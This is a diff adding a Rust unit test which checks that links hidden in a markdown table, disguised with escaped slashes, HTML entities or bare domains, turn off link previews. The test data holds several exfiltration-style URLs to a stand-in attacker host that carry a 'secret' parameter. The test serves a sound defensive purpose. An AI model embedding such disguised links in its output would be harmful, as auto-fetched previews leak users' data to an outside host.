@@ -230,6 +230,29 @@ mod tests {
     }
 
     #[test]
+    fn a_link_hidden_in_a_rich_payload_turns_previews_off() {
+        let mut people = LinkSet::default();
+        people.add_text("see https://example.com/page");
+        let table = |cell: &str| format!("| a | b |\n|---|---|\n| {cell} | 2 |\n");
+        for hidden in [
+            r"[x](https:\/\/evil.example/?d=secret)",
+            "[x](https://evil.example/?d=secret)",
+            "<https://evil.example/?d=secret>",
+            "[x](https&#58;//evil.example/?d=secret)",
+            "[x](https:&#x2F;&#x2F;evil.example/?d=secret)",
+            r"https:\/\/evil.example/?d=secret",
+            "evil.example/?d=secret",
+        ] {
+            let md = table(hidden);
+            assert!(crate::format::rich::needs_rich(&md), "{md}");
+            assert!(needs_preview_off(&md, &people), "{md}: {:?}", rich_links(&md));
+        }
+        assert!(!rich_links(&table("[x](https:\\/\\/evil.example/)")).is_empty(), "the rich payload itself is read");
+        assert!(!needs_preview_off(&table("[the page](https://example.com/page)"), &people), "a link the person posted keeps rich");
+        assert!(!needs_preview_off(&table("no link at all"), &people));
+    }
+
+    #[test]
     fn people_and_forwards_from_history() {
         use crate::conversation::{Entity, Part};
         let msg = |role: Role, text: &str, forwarded: bool| HistoryMessage {
